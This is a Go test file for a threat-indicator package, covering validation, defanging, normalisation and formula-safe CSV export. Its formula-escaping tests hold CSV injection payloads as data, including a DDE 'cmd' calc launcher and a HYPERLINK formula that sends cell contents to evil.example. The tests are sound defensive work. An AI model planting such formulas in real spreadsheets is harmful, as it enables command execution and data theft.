package indicator

import (
	"bytes"
	"encoding/csv"
	"slices"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"
)

func TestCheckValid(t *testing.T) {
	valid := map[Type][]string{
		IPv4:     {"203.0.113.10", "0.0.0.0", "255.255.255.255"},
		IPv6:     {"2001:db8::1", "::1", "2001:0db8:0000:0000:0000:0000:0000:0001", "::ffff:203.0.113.10"},
		CIDR:     {"203.0.113.0/24", "2001:db8::/32", "198.51.100.7/32"},
		Domain:   {"evil.example", "WWW.Evil.Example", "xn--r8jz45g.example", "例え.テスト", "a-b.c-d.example"},
		URL:      {"https://evil.example/x", "http://203.0.113.10:8080/a?b=c#d", "ftp://[2001:db8::1]/f", "https://user@例え.テスト/パス"},
		Email:    {"user@evil.example", "first.last+tag@mail.evil.example", "ユーザー@例え.テスト"},
		MD5:      {"d41d8cd98f00b204e9800998ecf8427e", "D41D8CD98F00B204E9800998ECF8427E"},
		SHA1:     {"da39a3ee5e6b4b0d3255bfef95601890afd80709"},
		SHA256:   {"e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"},
		SHA512:   {strings.Repeat("cf83e1357eefb8bd", 8)},
		File:     {"invoice.pdf.exe", `C:\Users\Public\svchost.exe`, "請求書.pdf.exe"},
		Registry: {`HKLM\Software\Microsoft\Windows\CurrentVersion\Run`, `HKEY_CURRENT_USER\Software\Evil`, `hkcu\x`},
		ASN:      {"AS64496", "as64496", "64496", "AS4294967295"},
	}
	for _, typ := range Types {
		if len(valid[typ]) == 0 {
			t.Errorf("no valid case for %s", typ)
		}
		for _, v := range valid[typ] {
			if err := Check(typ, v); err != nil {
				t.Errorf("Check(%s, %q) = %v, want nil", typ, v, err)
			}
		}
	}
}

func TestCheckInvalid(t *testing.T) {
	for _, c := range []struct {
		typ  Type
		v    string
		want string
	}{
		{IPv4, "203.0.113.300", `"203.0.113.300" is not an IPv4 address: four numbers from 0 to 255 joined by dots, e.g. 203.0.113.10`},
		{IPv4, "2001:db8::1", `"2001:db8::1" is not an IPv4 address: four numbers from 0 to 255 joined by dots, e.g. 203.0.113.10`},
		{IPv4, "203.0.113.10 ", `"203.0.113.10 " has spaces around it: write the value alone`},
		{IPv4, "203.0.113[.]10", `"203.0.113[.]10" looks defanged: write the value as it is; the briefing defangs it when printing`},
		{IPv6, "2001:db8::g", `"2001:db8::g" is not an IPv6 address: groups of hex digits joined by colons, e.g. 2001:db8::1 (without a %zone)`},
		{IPv6, "fe80::1%eth0", `"fe80::1%eth0" is not an IPv6 address: groups of hex digits joined by colons, e.g. 2001:db8::1 (without a %zone)`},
		{IPv6, "203.0.113.10", `"203.0.113.10" is not an IPv6 address: groups of hex digits joined by colons, e.g. 2001:db8::1 (without a %zone)`},
		{CIDR, "203.0.113.0/33", `"203.0.113.0/33" is not a CIDR prefix: an IPv4 or IPv6 address, a slash and the prefix length, e.g. 203.0.113.0/24 or 2001:db8::/32`},
		{CIDR, "203.0.113.5/24", `"203.0.113.5/24" has bits set past its prefix length: write 203.0.113.0/24`},
		{CIDR, "203.0.113.0", `"203.0.113.0" is not a CIDR prefix: an IPv4 or IPv6 address, a slash and the prefix length, e.g. 203.0.113.0/24 or 2001:db8::/32`},
		{Domain, "evil", `"evil" is not a domain name: has a single label: write the full name, e.g. evil.example`},
		{Domain, "evil.example.", `"evil.example." is not a domain name: ends with a dot: leave the root's dot out`},
		{Domain, "-evil.example", `"-evil.example" is not a domain name: has a label that is not a valid name: letters, digits and hyphens, each label 1 to 63 characters, not starting or ending with a hyphen`},
		{Domain, "evil_x.example", `"evil_x.example" is not a domain name: has a label that is not a valid name: letters, digits and hyphens, each label 1 to 63 characters, not starting or ending with a hyphen`},
		{Domain, strings.Repeat("a", 64) + ".example", `"` + strings.Repeat("a", 64) + `.example" is not a domain name: has a label that is not a valid name: letters, digits and hyphens, each label 1 to 63 characters, not starting or ending with a hyphen`},
		{Domain, "203.0.113.10", `"203.0.113.10" is not a domain name: is an IP address: give it the type ipv4 or ipv6`},
		{Domain, "evil[.]example", `"evil[.]example" looks defanged: write the value as it is; the briefing defangs it when printing`},
		{URL, "evil.example/x", `"evil.example/x" is not a URL: a scheme, :// and a host, e.g. https://evil.example/path`},
		{URL, "mailto:user@evil.example", `"mailto:user@evil.example" is not a URL: a scheme, :// and a host, e.g. https://evil.example/path`},
		{URL, "https://evil .example/", `"https://evil .example/" is not a URL: a scheme, :// and a host, e.g. https://evil.example/path`},
		{URL, "https://evil.example/a b", `"https://evil.example/a b" is not a URL: a scheme, :// and a host, e.g. https://evil.example/path: percent-encode its spaces (%20)`},
		{URL, "https:///x", `"https:///x" is not a URL: a scheme, :// and a host, e.g. https://evil.example/path: its host is empty`},
		{URL, "hxxps://evil.example/x", `"hxxps://evil.example/x" looks defanged: write the value as it is; the briefing defangs it when printing`},
		{Email, "user", `"user" is not an e-mail address: a local part, @ and a domain, e.g. user@evil.example (without a display name or <>)`},
		{Email, "Evil <user@evil.example>", `"Evil <user@evil.example>" is not an e-mail address: a local part, @ and a domain, e.g. user@evil.example (without a display name or <>)`},
		{Email, "user@evil", `"user@evil" is not an e-mail address: its domain has a single label: write the full name, e.g. evil.example`},
		{MD5, "d41d8cd98f00b204e9800998ecf8427", `"d41d8cd98f00b204e9800998ecf8427" is not an MD5 hash: it has 31 hex digits, an MD5 hash has 32`},
		{MD5, "g41d8cd98f00b204e9800998ecf8427e", `"g41d8cd98f00b204e9800998ecf8427e" is not an MD5 hash: 'g' at character 1 is not a hex digit (0–9, a–f)`},
		{SHA1, "da39a3ee5e6b4b0d3255bfef95601890afd8070", `"da39a3ee5e6b4b0d3255bfef95601890afd8070" is not a SHA1 hash: it has 39 hex digits, an SHA1 hash has 40`},
		{SHA256, "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b85", `"e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b85" is not a SHA256 hash: it has 63 hex digits, an SHA256 hash has 64`},
		{SHA512, "cf83", `"cf83" is not a SHA512 hash: it has 4 hex digits, an SHA512 hash has 128`},
		{SHA256, "ｅ3b0", `"ｅ3b0" is not a SHA256 hash: 'ｅ' at character 1 is not a hex digit (0–9, a–f)`},
		{File, "", `is empty: write the file name`},
		{File, "a\tb", `"a\tb" holds the control character U+0009`},
		{Registry, `HKXX\Software`, `"HKXX\\Software" is not a Windows registry key: a hive (HKEY_LOCAL_MACHINE or HKLM, HKEY_CURRENT_USER or HKCU, HKEY_CLASSES_ROOT or HKCR, HKEY_USERS or HKU, HKEY_CURRENT_CONFIG or HKCC), a backslash and the key, e.g. HKLM\Software\Microsoft\Windows\CurrentVersion\Run`},
		{ASN, "AS0", `"AS0" is not an autonomous system number: AS and a number from 1 to 4294967295, e.g. AS64496`},
		{ASN, "AS4294967296", `"AS4294967296" is not an autonomous system number: AS and a number from 1 to 4294967295, e.g. AS64496`},
		{ASN, "AS+5", `"AS+5" is not an autonomous system number: AS and a number from 1 to 4294967295, e.g. AS64496`},
		{Type("mutex"), "x", `"mutex" is not a type of indicator: the types are ipv4, ipv6, cidr, domain, url, email, md5, sha1, sha256, sha512, file, registry, asn`},
	} {
		err := Check(c.typ, c.v)
		if err == nil || err.Error() != c.want {
			t.Errorf("Check(%s, %q) =\n  %v\nwant\n  %s", c.typ, c.v, err, c.want)
		}
	}
}

func TestParseType(t *testing.T) {
	if typ, err := ParseType("SHA256"); err != nil || typ != SHA256 {
		t.Errorf("ParseType(SHA256) = %v, %v", typ, err)
	}
	if _, err := ParseType("hash"); err == nil || !strings.Contains(err.Error(), "the types are ipv4, ipv6") {
		t.Errorf("ParseType(hash) = %v", err)
	}
}

func TestKey(t *testing.T) {
	for _, c := range []struct {
		typ  Type
		a, b string
	}{
		{IPv6, "2001:0db8::0001", "2001:db8::1"},
		{Domain, "EVIL.example", "evil.example"},
		{Domain, "例え.テスト", "xn--r8jz45g.xn--zckzah"},
		{Email, "user@EVIL.example", "user@evil.example"},
		{URL, "HTTPS://EVIL.example/a", "https://evil.example/a"},
		{URL, "https://例え.テスト:8443/x?y", "https://xn--r8jz45g.xn--zckzah:8443/x?y"},
		{URL, "http://u@[2001:0db8::0001]:80/", "http://u@[2001:db8::1]:80/"},
		{MD5, "D41D8CD98F00B204E9800998ECF8427E", "d41d8cd98f00b204e9800998ecf8427e"},
		{Registry, `HKLM\Software\Run`, `HKEY_LOCAL_MACHINE\software\run`},
		{ASN, "AS64496", "64496"},
	} {
		if Key(c.typ, c.a) != Key(c.typ, c.b) {
			t.Errorf("Key(%s, %q) = %q, Key(%q) = %q: want the same", c.typ, c.a, Key(c.typ, c.a), c.b, Key(c.typ, c.b))
		}
	}
	// A URL's path is case-sensitive (RFC 3986, 6.2.2.1).
	if Key(URL, "https://evil.example/A") == Key(URL, "https://evil.example/a") {
		t.Error("Key folds the path of a URL")
	}
	// The local part of an e-mail address is case-sensitive (RFC 5321).
	if Key(Email, "User@evil.example") == Key(Email, "user@evil.example") {
		t.Error("Key folds the local part of an e-mail address")
	}
}

func TestDefang(t *testing.T) {
	for _, c := range []struct {
		typ     Type
		v, want string
	}{
		{IPv4, "203.0.113.10", "203.0.113[.]10"},
		{IPv6, "2001:db8::1", "2001[:]db8::1"},
		{CIDR, "203.0.113.0/24", "203.0.113[.]0/24"},
		{CIDR, "2001:db8::/32", "2001[:]db8::/32"},
		{Domain, "evil.example", "evil[.]example"},
		{Domain, "www.evil.example", "www[.]evil[.]example"},
		{URL, "https://evil.example/x", "hxxps://evil[.]example/x"},
		{URL, "HTTP://evil.example/a.php?b=c.d", "HXXP://evil[.]example/a.php?b=c.d"},
		{URL, "http://203.0.113.10:8080/x", "hxxp://203.0.113[.]10:8080/x"},
		{URL, "ftp://user@[2001:db8::1]:21/f", "fxp://user@[2001[:]db8::1]:21/f"},
		{URL, "wss://evil.example", "wss://evil[.]example"},
		{Email, "user@evil.example", "user[@]evil[.]example"},
		{Email, "first.last@evil.example", "first.last[@]evil[.]example"},
		// The dots UTS #46 maps to the full stop separate labels too.
		{Domain, "例え\u3002テスト", "例え[.]テスト"},
		{Domain, "evil\uFF0Eexample", "evil[.]example"},
		{Domain, "www\uFF61evil.example", "www[.]evil[.]example"},
		{URL, "https://evil\u3002example/a.b", "hxxps://evil[.]example/a.b"},
		{URL, "http://203\uFF0E0.113.10/", "hxxp://203[.]0[.]113[.]10/"},
		{Email, "a@bad\uFF61example", "a[@]bad[.]example"},
		{MD5, "d41d8cd98f00b204e9800998ecf8427e", "d41d8cd98f00b204e9800998ecf8427e"},
		{File, "invoice.pdf.exe", "invoice.pdf.exe"},
		{ASN, "AS64496", "AS64496"},
	} {
		if got := Defang(c.typ, c.v); got != c.want {
			t.Errorf("Defang(%s, %q) = %q, want %q", c.typ, c.v, got, c.want)
		}
		// A defanged network value is never a value of its type again.
		if networked(c.typ) && c.typ != IPv6 && c.typ != CIDR && Check(c.typ, Defang(c.typ, c.v)) == nil {
			t.Errorf("Check accepts the defanged %q", Defang(c.typ, c.v))
		}
	}
}

func TestCSV(t *testing.T) {
	list := sample()
	got := CSV(list)
	if !bytes.HasPrefix(got, []byte("type,value,note,first_seen,last_seen\r\n")) {
		t.Fatalf("CSV header: %q", got[:40])
	}
	if bytes.HasPrefix(got, []byte("\xef\xbb\xbf")) {
		t.Error("CSV starts with a byte order mark")
	}
	r := csv.NewReader(bytes.NewReader(got))
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != len(list)+1 {
		t.Fatalf("%d records, want %d", len(recs), len(list)+1)
	}
	for i, in := range list {
		rec := recs[i+1]
		want := []string{string(in.Type), in.Value, in.Note, in.FirstSeen.String(), in.LastSeen.String()}
		if strings.Join(rec, "|") != strings.Join(want, "|") {
			t.Errorf("record %d = %q, want %q", i+1, rec, want)
		}
	}
	if !strings.Contains(string(got), `"note with ""quotes"", a comma`+"\r\n"+`and a line"`) {
		t.Errorf("a note with quotes, a comma and a line break is not quoted as RFC 4180 says:\n%s", got)
	}
}

func FuzzCheck(f *testing.F) {
	for _, s := range []string{"203.0.113.10", "2001:db8::1", "203.0.113.0/24", "evil.example", "https://evil.example/x",
		"user@evil.example", "d41d8cd98f00b204e9800998ecf8427e", `HKLM\Software`, "AS64496", "http://[::1]:80/", "ftp://a@b.c", "evil\uFF0Eexample", "a@b\u3002example", "https://a\uFF61b.example/"} {
		for i := range Types {
			f.Add(uint8(i), s)
		}
	}
	f.Fuzz(func(t *testing.T, k uint8, v string) {
		typ := Types[int(k)%len(Types)]
		// A note may be any text (valid UTF-8: load refuses a file that
		// is not): the CSV runs none as a formula and gives each back, its
		// line ends as LF (a CSV reader's).
		if utf8.ValidString(v) {
			recs, err := csv.NewReader(bytes.NewReader(CSV([]Indicator{{Type: typ, Value: "x", Note: v}}))).ReadAll()
			if err != nil || len(recs) != 2 || formulaStart(recs[1][2]) || CSVValue(recs[1][2]) != strings.ReplaceAll(v, "\r", "") {
				t.Errorf("CSV of the note %q: %v %q", v, err, recs)
			}
		}
		err := Check(typ, v)
		d := Defang(typ, v)
		p := Pattern(typ, v)
		if err != nil {
			return
		}
		if !strings.HasPrefix(p, "[") || !strings.HasSuffix(p, "]") {
			t.Errorf("Pattern(%s, %q) = %q", typ, v, p)
		}
		if networked(typ) && d == v && typ != IPv6 {
			t.Errorf("Defang(%s, %q) left it as it is", typ, v)
		}
		if (typ == Domain || typ == Email) && Check(typ, d) == nil {
			t.Errorf("Defang(%s, %q) = %q, still a working value", typ, v, d)
		}
		_ = Key(typ, v)
		// The briefing prints no character that draws nothing.
		if w := Visible(d); strings.IndexFunc(w, invisible) >= 0 || (w == d) != (strings.IndexFunc(d, invisible) < 0) {
			t.Errorf("Visible(%+q) = %+q", d, w)
		}
		// The CSV runs no value as a formula and gives each back.
		recs, err := csv.NewReader(bytes.NewReader(CSV([]Indicator{{Type: typ, Value: v, Note: v}}))).ReadAll()
		if err != nil || len(recs) != 2 {
			t.Fatalf("CSV of %q: %v %q", v, err, recs)
		}
		for _, field := range recs[1][1:3] {
			if formulaStart(field) || CSVValue(field) != strings.ReplaceAll(v, "\r\n", "\n") {
				t.Errorf("CSV field %q of %q", field, v)
			}
		}
	})
}

// TestCSVFormulas: which types take a value a spreadsheet would run as a
// formula (file names and e-mail addresses, of all the types), and the
// CSV holds each of those values, and such notes, escaped with one
// apostrophe that a tool drops to get the value back as written.
func TestCSVFormulas(t *testing.T) {
	examples := map[Type]string{
		IPv4: "203.0.113.10", IPv6: "2001:db8::1", CIDR: "203.0.113.0/24", Domain: "evil.example",
		URL: "https://evil.example/x", Email: "x@evil.example", MD5: strings.Repeat("a", 32), SHA1: strings.Repeat("a", 40),
		SHA256: strings.Repeat("a", 64), SHA512: strings.Repeat("a", 128), File: "x.exe", Registry: `HKLM\Software`, ASN: "AS64496",
	}
	var takes []string
	for _, typ := range Types {
		for _, p := range []string{"=", "+", "-", "@", "\t", "\r", "'", "=cmd|' /C calc'!A0", `=HYPERLINK("https://evil.example/?"&A1)`} {
			if Check(typ, p+examples[typ]) == nil && !slices.Contains(takes, string(typ)) {
				takes = append(takes, string(typ))
			}
		}
	}
	if got := strings.Join(takes, ","); got != "email,file" {
		t.Errorf("types taking a value that starts a formula: %s, want email,file", got)
	}

	list := []Indicator{
		{Type: File, Value: `=HYPERLINK("https://evil.example/?"&A1,"invoice")`, Note: "=1+1"},
		{Type: File, Value: "+cmd.exe", Note: "-> the C2"},
		{Type: File, Value: "-rf.sh", Note: "@SUM(A1:A2)"},
		{Type: File, Value: "@invoice.pdf.exe", Note: "\tindented"},
		{Type: File, Value: "'quoted'.txt", Note: "'quoted'"},
		{Type: Email, Value: "=x@evil.example", Note: "\nafter a line end"},
		{Type: Email, Value: "=x@evil.example", Note: "\n=1+1"},
		{Type: Email, Value: "=x@evil.example", Note: "\r\n@SUM(A1)"},
		{Type: Email, Value: "=x@evil.example", Note: " =1+1"},
		{Type: Email, Value: "=x@evil.example", Note: "\u3000=1+1"},
		{Type: Email, Value: "=x@evil.example", Note: "\x00=1+1"},
		{Type: Email, Value: "-x@evil.example"},
		{Type: Email, Value: "+x@evil.example"},
		{Type: File, Value: "invoice=paid+1.exe", Note: "a note = not a formula"},
		// The other forms of the signs: full-width (Japanese input),
		// small, superscript, subscript, and the minus sign.
		{Type: File, Value: "＝HYPERLINK(\"https://evil.example\")", Note: "＋1"},
		{Type: File, Value: "－1.exe", Note: "＠SUM(A1)"},
		{Type: Email, Value: "＝x@evil.example", Note: "＇quoted"},
		{Type: File, Value: "﹦1.exe", Note: "﹢1"},
		{Type: File, Value: "﹣1.exe", Note: "﹫a"},
		{Type: File, Value: "⁼1.exe", Note: "⁺1"},
		{Type: File, Value: "⁻1.exe", Note: "₋1"},
		{Type: File, Value: "−1.exe", Note: "⩵1"},
	}
	recs, err := csv.NewReader(bytes.NewReader(CSV(list))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, in := range list {
		rec := recs[i+1]
		for j, want := range []string{in.Value, in.Note} {
			field := rec[j+1]
			if formulaStart(field) {
				t.Errorf("record %d field %d %q starts a formula", i+1, j+2, field)
			}
			if CSVValue(field) != strings.ReplaceAll(want, "\r", "") {
				t.Errorf("record %d field %d %q gives back %q, want %q", i+1, j+2, field, CSVValue(field), want)
			}
		}
	}
	for i, in := range list[14:] {
		if recs[15+i][1] != "'"+in.Value || recs[15+i][2] != "'"+in.Note {
			t.Errorf("record %d = %q, want its value and note each with one apostrophe before it", 15+i, recs[15+i])
		}
	}
	for _, s := range []string{"請求書＝1.exe", "１.exe", "～1", "〜1", "‐1", "–1", "—1", "（1）"} {
		if CSVField(s) != s {
			t.Errorf("CSVField(%q) = %q, want it as written: it starts no formula", s, CSVField(s))
		}
	}
	if CSVField("\rx") != "'\rx" || CSVField("\nx") != "'\nx" || CSVField("") != "" || CSVField("x\n=1") != "x\n=1" {
		t.Errorf("CSVField(CR x) = %q", CSVField("\rx"))
	}
	if recs[14][1] != "invoice=paid+1.exe" || recs[14][2] != "a note = not a formula" {
		t.Errorf("a value that starts no formula is changed: %q", recs[9])
	}
	if recs[1][1] != `'=HYPERLINK("https://evil.example/?"&A1,"invoice")` || recs[5][1] != "''quoted'.txt" {
		t.Errorf("escaped: %q %q", recs[1][1], recs[5][1])
	}
}

// TestVisible: every character that draws nothing is named, everything
// else is left as written. Which types take a value holding one: a
// bidirectional control in file names, registry keys, URLs and e-mail
// addresses; in domain names only what UTS #46 maps to nothing.
func TestVisible(t *testing.T) {
	examples := map[Type]string{
		IPv4: "203.0.113.10", IPv6: "2001:db8::1", CIDR: "203.0.113.0/24", Domain: "evil.example",
		URL: "https://evil.example/x", Email: "xy@evil.example", MD5: strings.Repeat("a", 32), SHA1: strings.Repeat("a", 40),
		SHA256: strings.Repeat("a", 64), SHA512: strings.Repeat("a", 128), File: "x.exe", Registry: `HKLM\Software`, ASN: "AS64496",
	}
	for _, c := range []struct{ r, want string }{{"\u202E", "url,email,file,registry"}, {"\u200B", "domain,url,email,file,registry"}} {
		var takes []string
		for _, typ := range Types {
			v := examples[typ]
			for i := 1; i < len(v); i++ {
				if Check(typ, v[:i]+c.r+v[i:]) == nil {
					takes = append(takes, string(typ))
					break
				}
			}
		}
		if got := strings.Join(takes, ","); got != c.want {
			t.Errorf("types taking %+q: %s, want %s", c.r, got, c.want)
		}
	}
	for _, c := range [][2]string{
		{"invoice\u202Efdp.exe", "invoice[U+202E]fdp.exe"},
		{"plain.exe", "plain.exe"},
		{"請求書.pdf", "請求書.pdf"},
		{"a\u00ADb\u034Fc\u061Cd\u115Fe", "a[U+00AD]b[U+034F]c[U+061C]d[U+115F]e"},
		{"x\uFE0Fy\U000E0100z\U000E0041", "x[U+FE0F]y[U+E0100]z[U+E0041]"},
		{"\u200E\u200F\u202A\u202B\u202C\u202D\u2066\u2067\u2068\u2069", "[U+200E][U+200F][U+202A][U+202B][U+202C][U+202D][U+2066][U+2067][U+2068][U+2069]"},
		{"tab\tand space", "tab\tand space"},
	} {
		if got := Visible(c[0]); got != c[1] {
			t.Errorf("Visible(%+q) = %q, want %q", c[0], got, c[1])
		}
	}
}

// formulaStart reports whether a field read from [CSV] starts with a
// character that a spreadsheet may run as (or skip before) a formula.
func formulaStart(field string) bool {
	r, _ := utf8.DecodeRuneInString(field)
	return field != "" && (strings.ContainsRune("=+-@\uFF1D\uFF0B\uFF0D\uFF20\uFE66\uFE62\uFE63\uFE6B\u207C\u207A\u207B\u208C\u208A\u208B\u2212\u2A75\u2A76", r) || unicode.IsSpace(r) || unicode.IsControl(r))
}
